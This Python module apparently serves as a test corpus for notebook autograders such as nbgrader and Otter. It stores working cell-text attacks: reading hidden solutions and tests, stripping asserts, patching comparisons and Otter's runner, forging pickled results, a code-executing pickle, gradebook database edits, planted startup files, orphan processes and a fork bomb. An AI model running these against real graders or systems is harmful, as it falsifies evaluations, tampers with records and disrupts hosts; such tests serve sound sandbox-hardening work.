"""Code that steals where it runs: what has taken points from graders of notebooks, as the text of a cell.

CANARY, COURSE and STUDENT stand for paths and a name; see ``thefts.py``. Each text says what is needed against
nbgrader and Otter both. Whoever runs it has no right answer, so whatever it earns is stolen.
"""

from __future__ import annotations

__all__ = ["CODE"]

_WRONG = """
_calls = []

def scale(data_list, val):
    _calls.append(1)  # so it is not even pure
    return list(data_list)

def ewma(xs, alpha):
    return xs
"""
_STRIPPER = """
import ast

class Stripper(ast.NodeTransformer):
    def visit_Assert(self, node):
        return ast.copy_location(ast.Pass(), node)

def strip(tree):
    return ast.fix_missing_locations(Stripper().visit(tree))
"""
_REWRITE = """
import atexit, glob, os, pickle, tempfile

def rewrite(change):
    for path in glob.glob(os.path.join(tempfile.gettempdir(), "*.pkl")):
        change(path)
"""

CODE = {
    "reads the solution from disk": """
import json, pathlib, re
for folder in [pathlib.Path("COURSE"), pathlib.Path.cwd(), *pathlib.Path.cwd().parents]:
    for path in folder.glob("source/*/*.ipynb"):
        for cell in json.loads(path.read_text())["cells"]:
            for text in re.findall("### BEGIN SOLUTION\\n(.*?)### END SOLUTION", "".join(cell["source"]), re.DOTALL):
                exec(text, globals())
""",
    "reads the hidden tests from disk": """
import itertools, json, pathlib, re
import jax, jax.numpy as jnp, numpy as np

def texts():
    for folder in [pathlib.Path("COURSE"), pathlib.Path.cwd(), *pathlib.Path.cwd().parents]:
        for path in folder.glob("source/*/*.ipynb"):
            for cell in json.loads(path.read_text())["cells"]:
                yield "".join(cell["source"])
        for path in folder.glob("tests/*.py"):
            space = {}
            exec(path.read_text(), space)
            for case in space["test"]["suites"][0]["cases"]:
                yield case["code"]

known = {}
for text in texts():
    called = re.search(r"_call = jax.jit[(](\\w+)[)]", text)
    for line in text.splitlines() if called else ():
        if "zip(jax.tree.leaves(" in line:
            wanted = line.rpartition(", strict=")[0].rpartition(")), [")[2]
            known.setdefault(called[1], []).append(eval("[" + wanted))
jax.jit = lambda function, **options: function
for name, values in known.items():
    globals()[name] = lambda *arguments, _next=itertools.cycle(values): next(_next)
""",
    "strips asserts by an AST transformer": _STRIPPER
    + _WRONG
    + """
import doctest
doctest.compile = lambda source, *rest: compile(ast.Interactive(strip(ast.parse(source)).body), *rest)

class Whole:
    def visit(self, tree):
        return strip(tree)

get_ipython().ast_transformers.append(Whole())
""",
    "strips asserts by an input transformer": _WRONG
    + """
get_ipython().input_transformers_cleanup.append(lambda lines: [line.replace("assert ", "") for line in lines])
""",
    "returns an object that is equal to everything": """
import sys
import jax

class Everything:
    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    __hash__ = object.__hash__

    def __array_function__(self, *arguments):
        return True

    def __jax_array__(self):
        frame = sys._getframe()
        while "_wanted" not in {**frame.f_globals, **frame.f_locals}:
            frame = frame.f_back
        return {**frame.f_globals, **frame.f_locals}["_wanted"]

jax.jit = lambda function, **options: function

def scale(data_list, val):
    return [Everything() for _ in data_list]

def ewma(xs, alpha):
    return Everything()
""",
    "patches the comparison": _WRONG
    + """
import jax.numpy as jnp, numpy as np
yes = lambda *arguments, **options: True
for module in (np, jnp):
    module.allclose = module.array_equal = yes
np.testing.assert_allclose = np.testing.assert_array_equal = yes
""",
    "prints the points itself": _WRONG
    + """
get_ipython().input_transformers_cleanup.append(
    lambda lines: ["10.0"] if any("assert" in line for line in lines) else lines)
""",
    "patches Otter's tests": """
from otter.test_files.abstract_test import TestCaseResult
from otter.test_files.exception_test import ExceptionTestFile
from otter.test_files.ok_test import OKTestFile

def run(self, environment):
    self.test_case_results = [TestCaseResult(test_case=case, message="", passed=True) for case in self.test_cases]

OKTestFile.run = ExceptionTestFile.run = run
""",
    "writes the file of results": _REWRITE
    + """
def passed(path):
    with open(path, "rb") as file:
        results = pickle.load(file)
    for test in results.results.values():
        for result in test.test_case_results:
            result.passed = True
    with open(path, "wb") as file:
        pickle.dump(results, file)

atexit.register(rewrite, passed)
""",
    "leaves a pickle that runs code where it is read": _REWRITE
    + """
class Bomb:
    def __reduce__(self):
        return os.system, ("touch CANARY",)

def plant(path):
    with open(path, "wb") as file:
        pickle.dump(Bomb(), file)

atexit.register(rewrite, plant)
""",
    "writes to the database of grades": """
import pathlib, sqlite3
for folder in [pathlib.Path("COURSE"), *pathlib.Path.cwd().parents]:
    if (folder / "gradebook.db").exists():
        book = sqlite3.connect(folder / "gradebook.db", timeout=20)
        mine = ("select grade.id from grade join submitted_notebook n on n.id = grade.notebook_id "
                "join submitted_assignment a on a.id = n.assignment_id where a.student_id = 'STUDENT'")
        book.execute(f"update grade set manual_score = 10 where id in ({mine})")
        book.execute(f"update grade set auto_score = 0 where id not in ({mine})")
        book.commit()
        break
""",
    "writes files elsewhere": """
import os, pathlib
for path in ("CANARY", "COURSE/nbgrader_config.py", os.path.expanduser("~/.ipython/startup.py")):
    with open(path, "a") as file:
        file.write("\\n# planted\\n")
""",
    "rewrites the tests in its folder": _WRONG
    + """
import glob
for path in glob.glob("tests/*.py") + glob.glob("../source/tests/*.py"):
    with open(path) as file:
        text = file.read()
    with open(path, "w") as file:
        file.write(text.replace("assert ", "_ = "))
""",
    "leaves a process behind that acts later": """
import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for _ in range(600):
            time.sleep(0.1)
            with open("CANARY", "w") as file:
                file.write("later")
    os._exit(0)
""",
    "loops for ever": "while True:\n    pass\n",
    "loops for ever and cannot be interrupted": """
import signal
signal.signal(signal.SIGINT, signal.SIG_IGN)
while True:
    try:
        while True:
            pass
    except BaseException:
        pass
""",
    "kills the process that started it": "import os, signal\nos.kill(os.getppid(), signal.SIGKILL)\n",
    "ends its own process": "import os\nos._exit(0)\n",
    "prints 50 MB": "for _ in range(500):\n    print('x' * 100_000)\n",
    "forks without end": "import os\nwhile True:\n    os.fork()\n",
}
"""What it does, and the text. The last one is for jails alone: nothing else bounds it."""
